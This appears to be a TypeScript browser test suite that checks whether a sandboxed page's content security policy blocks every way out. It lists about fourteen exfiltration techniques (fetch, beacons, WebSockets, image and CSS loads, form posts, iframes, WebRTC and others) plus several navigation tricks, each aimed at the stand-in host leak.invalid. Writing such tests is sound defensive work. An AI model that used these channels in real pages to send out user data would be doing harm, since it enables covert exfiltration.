import assert from "node:assert/strict";
import { test } from "node:test";
import { once } from "node:events";
import { createServer } from "node:net";
import type { AddressInfo } from "node:net";
import { browser, Visit, WAYS } from "./driver.js";

const chromium = browser();

/** Ways out of a page; each is tried from within. */
const LEAKS: [name: string, attempt: () => unknown][] = [
  ["fetch", () => fetch("https://leak.invalid/fetch")],
  ["XMLHttpRequest", () => {
    const request = new XMLHttpRequest();
    request.open("GET", "https://leak.invalid/xhr");
    request.send();
  }],
  ["beacon", () => navigator.sendBeacon("https://leak.invalid/beacon")],
  ["WebSocket", () => new WebSocket("wss://leak.invalid/socket")],
  ["EventSource", () => new EventSource("https://leak.invalid/events")],
  ["picture", () => (new Image().src = "https://leak.invalid/picture.png")],
  ["style", () => (document.body.style.backgroundImage = "url(https://leak.invalid/style.png)")],
  ["script", () => document.body.append(Object.assign(document.createElement("script"), { src: "https://leak.invalid/script.js" }))],
  ["frame", () => document.body.append(Object.assign(document.createElement("iframe"), { src: "https://leak.invalid/frame" }))],
  ["form", () => {
    const form = Object.assign(document.createElement("form"), { action: "https://leak.invalid/form", method: "post" });
    document.body.append(form);
    form.submit();
  }],
  ["window", () => window.open("https://leak.invalid/window")],
  ["top", () => (window.top!.location.href = "https://leak.invalid/top")],
  ["address", () => parent.postMessage({ title: "Regulars", lang: "en", hash: "https://leak.invalid/address", replace: true }, "*")],
  ["peer", () => new RTCPeerConnection()],
];

/** Ways to take the frame elsewhere. The browser may open a connection before the policy stops it; nothing may be said on it. */
const JOURNEYS: [name: string, attempt: (there: string) => unknown][] = [
  ["location", (there) => (location.href = there)],
  ["refresh", (there) => document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: `0;url=${there}` }))],
  ["download", (there) => {
    const link = Object.assign(document.createElement("a"), { href: there, download: "leak" });
    document.body.append(link);
    link.click();
  }],
  ["link", (there) => {
    const link = Object.assign(document.createElement("a"), { href: there });
    document.body.append(link);
    link.click();
  }],
];

for (const [name, attempt] of JOURNEYS) {
  test(`the frame cannot go elsewhere by ${name}`, async () => {
    const heard: string[] = [];
    const listener = createServer((socket) => socket.on("data", (bytes) => heard.push(String(bytes))).on("error", () => undefined)).listen(0, "127.0.0.1");
    await once(listener, "listening");
    const visit = await Visit.begin(chromium, "from a file");
    const there = `http://127.0.0.1:${(listener.address() as AddressInfo).port}/leak`;
    await visit.frame.evaluate(attempt as (there: string) => void, there).catch(() => undefined);
    await new Promise((resolve) => setTimeout(resolve, 500));
    assert.deepEqual(heard, []);
    assert.equal(new URL(visit.page.url()).protocol, "file:");
    visit.complaints.length = 0;
    await visit.end();
    listener.close();
  });
}

for (const way of WAYS) {
  test(`${way}: no way out of the page is open`, async () => {
    const visit = await Visit.begin(chromium, way);
    const asked: string[] = [];
    // Requests that the policy stops never come to this point.
    await visit.page.context().route(/leak\.invalid/, (route) => {
      asked.push(route.request().url());
      return route.abort();
    });
    for (const [, attempt] of LEAKS) {
      await visit.frame.evaluate(attempt).catch(() => undefined);
    }
    await new Promise((resolve) => setTimeout(resolve, 500));
    assert.deepEqual(asked, []);
    assert.equal(visit.page.context().pages().length, 1);
    assert.equal(await visit.frame.evaluate(() => typeof RTCPeerConnection), "undefined");
    // The page itself goes on.
    await visit.go("abc");
    assert.match(await visit.finding(), /\d/);
    assert.ok(visit.complaints.length >= 5, "the browser did not say what it stopped");
    visit.complaints.length = 0;
    await visit.end();
  });
}
